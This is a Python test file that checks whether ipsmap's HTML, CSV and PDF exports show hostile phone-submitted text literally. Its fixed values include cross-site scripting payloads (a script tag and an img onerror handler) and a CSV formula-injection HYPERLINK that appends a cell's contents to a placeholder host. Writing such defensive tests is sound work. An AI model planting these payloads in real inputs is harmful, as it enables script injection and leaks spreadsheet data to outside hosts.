"""What a phone typed, placed on the map, comes out of every export as text, never as markup
(issue 15: hostile input "shown literally everywhere (page, window, exports)"). The phone's
request goes through the desk the page's server calls, with the session switched to
"straight onto the map"; the exports are the CLI's, in a fresh process."""

from __future__ import annotations

import csv
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from ipsmap.live.phones import PhoneDesk
from ipsmap.model.project import Project
from ipsmap.model.project_commands import AddMap

from .support import REPO

pytestmark = pytest.mark.timeout(120)
LABEL = '<script>alert(1)</script> 👩‍👧 مرحبا & "q"'
NOTE = "</textarea><img src=x onerror=alert(2)> שלום"
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"open")'  # an evaluator's Excel would run it


def _export(path: Path, out: Path, fmt: str) -> None:
    done = subprocess.run(
        [sys.executable, "-m", "ipsmap", "export", str(path), "--map", "Shared",
         "--format", fmt, "-o", str(out)],
        capture_output=True, text=True, cwd=REPO, timeout=90,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr


def test_a_phone_s_hostile_idea_is_literal_in_html_csv_and_pdf(tmp_path: Path):
    path = tmp_path / "w.ipsmap"
    with Project.create(path, "Workshop") as project:
        shared = AddMap("Shared")
        project.execute(shared)
        desk = PhoneDesk(project, lambda: [shared.id], session_id=lambda: None, say=lambda _: None)
        desk.straight_onto_map = True
        token, _ = desk.join({"nickname": "Zed", "group": "parent", "consent": True})
        phone = desk.phone_for(token)
        assert phone is not None
        desk.suggest(phone, {"map": shared.id, "label": LABEL, "note": NOTE})
        desk.suggest(phone, {"map": shared.id, "label": FORMULA, "note": ""})
        factors = {f.label: f.notes for f in project.document(shared.id).factors.values()}
        assert factors == {LABEL: NOTE, FORMULA: ""}

    html = tmp_path / "map.html"
    _export(path, html, "html")
    page = html.read_text(encoding="utf-8")
    # No live tag from what the phone sent: the label is in the page only escaped.
    assert "<script>alert(1)" not in page and "<img src=x" not in page
    assert "alert(1)" in page  # escaped, still there to read

    _export(path, tmp_path / "csv", "csv")  # one file per table: csv-factors.csv, …
    rows = []
    for table in tmp_path.glob("csv-*.csv"):
        with table.open(newline="", encoding="utf-8-sig") as handle:
            rows += [cell for row in csv.reader(handle) for cell in row]
    assert LABEL in rows and NOTE in rows
    # A spreadsheet shows the formula as text instead of running it (the ' guard).
    assert "'" + FORMULA in rows and FORMULA not in rows

    if shutil.which("pdftotext") is None:
        pytest.skip("pdftotext is not installed")
    pdf = tmp_path / "map.pdf"
    _export(path, pdf, "pdf")
    text = subprocess.run(
        ["pdftotext", "-enc", "UTF-8", str(pdf), "-"], capture_output=True, text=True, check=True
    ).stdout
    assert "<script>alert(1)</script>" in re.sub(r"\s+", " ", text)
